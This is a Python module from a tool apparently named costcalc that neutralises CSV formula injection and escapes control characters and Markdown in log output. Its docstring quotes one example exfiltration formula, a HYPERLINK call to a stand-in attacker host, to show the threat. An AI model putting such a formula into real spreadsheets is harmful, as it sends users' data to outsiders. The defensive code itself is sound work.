"""Text from the logs made safe for where it is shown: spreadsheet cells (CSV and FOCUS exports), terminals
(table output) and Markdown.

- Spreadsheets: a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
  Excel, LibreOffice and Google Sheets (``=HYPERLINK("http://evil.example/?"&A1,"x")`` sends the sheet away).
  Such a text cell is written with a single quote in front, as OWASP's "CSV injection" page recommends; a cell
  that is a plain number (``-0.5``, the discounts costcalc writes) is not a formula and stays as it is.
  ``COSTCALC_RAW_CELLS=1`` turns this off for pipelines that want the values byte for byte.
- Every CSV row that holds a carriage return is written fully quoted: Python's csv module quotes only the
  characters of its line terminator (``\\n``), and a bare CR in an unquoted cell splits the row for readers.
- Terminals: control characters (escape sequences that move the cursor or recolour the screen) show as ``\\xNN``.
- Markdown: ``|`` and line breaks are escaped, and so is HTML (``<``, ``>``, ``&``), which Markdown renders raw.
"""

from __future__ import annotations

import csv
import os
import re
from collections.abc import Iterable, Iterator, Mapping, Sequence
from contextlib import contextmanager
from typing import IO, Any

RAW_CELLS_ENV = "COSTCALC_RAW_CELLS"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?\Z")
_CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f]")
_FORMULA_START = re.compile(r"\0[=+\-@\t\r]")  # a cell of a NUL-led, NUL-joined row starting like FORMULA_STARTS


# CSV staged for a typed format (Parquet), never opened as a spreadsheet: its cells stay as the data has them
_STAGING = [False]


@contextmanager
def staging_cells() -> Iterator[None]:
    """Write CSV cells as the data has them inside the block: the CSV is staged for Parquet, whose readers see
    values, not formulas (a leading ``'`` would change the value)."""
    previous, _STAGING[0] = _STAGING[0], True
    try:
        yield
    finally:
        _STAGING[0] = previous


def raw_cells() -> bool:
    """Whether cells are written exactly as the data has them: asked for (``COSTCALC_RAW_CELLS=1``), or CSV staged
    for Parquet (``staging_cells``)."""
    return _STAGING[0] or os.environ.get(RAW_CELLS_ENV, "").strip().lower() in ("1", "true", "yes", "on")


def spreadsheet_cell(value: Any) -> Any:
    """``value`` as a spreadsheet may safely read it: text that would start a formula gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.match(value):
        return "'" + value
    return value


def printable(text: str) -> str:
    """Text from the logs as it may reach a terminal: control characters (escape sequences) shown as \\xNN."""
    return _CONTROL.sub(lambda m: f"\\x{ord(m.group()):02x}", text) if _CONTROL.search(text) else text


def printable_all(texts: list[str]) -> list[str]:
    """``printable`` of each text, with one search for the common case of none needing it."""
    if _CONTROL.search("".join(texts)) is None:
        return texts
    return [printable(t) for t in texts]


def markdown_cell(text: str) -> str:
    """Text for a Markdown table cell or line: HTML, pipes and line breaks escaped, control characters shown."""
    text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return printable(text.replace("|", "\\|").replace("\r\n", " ").replace("\n", " "))


class SafeCsvWriter:
    """A ``csv.writer`` whose text cells are made safe to open in a spreadsheet (``spreadsheet_cell``) and whose
    rows with a carriage return are quoted whole, so they read back as written."""

    def __init__(self, out: IO[str], **options: Any):
        options.setdefault("lineterminator", "\n")
        self._plain = csv.writer(out, **options)
        self._quoted = csv.writer(out, **{**options, "quoting": csv.QUOTE_ALL})
        self._neutralise = not raw_cells()

    def writerow(self, row: Iterable[Any]) -> None:
        row = row if isinstance(row, list) else list(row)
        # the common row: no text cell starts like a formula or holds a carriage return, found by one search over
        # its text cells joined (a NUL inside a cell only sends the row the long way)
        probe = "\0" + "\0".join([c for c in row if isinstance(c, str)])
        if "\r" not in probe and (not self._neutralise or _FORMULA_START.search(probe) is None):
            self._plain.writerow(row)
            return
        if self._neutralise:  # spreadsheet_cell, inline: a call per cell was most of a per-record CSV's writing
            cells = [("'" + c if c.startswith(FORMULA_STARTS) and not _NUMBER.match(c) else c)
                     if isinstance(c, str) else c for c in row]
        else:
            cells = list(row)
        carriage_return = any("\r" in c for c in cells if isinstance(c, str))
        (self._quoted if carriage_return else self._plain).writerow(cells)

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeCsvDictWriter:
    """``csv.DictWriter`` over a ``SafeCsvWriter``."""

    def __init__(self, out: IO[str], fieldnames: Sequence[str], **options: Any):
        self.fieldnames = list(fieldnames)
        self._writer = SafeCsvWriter(out, **options)

    def writeheader(self) -> None:
        self._writer.writerow(self.fieldnames)

    def writerow(self, row: Mapping[str, Any]) -> None:
        self._writer.writerow([row.get(name, "") for name in self.fieldnames])

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)
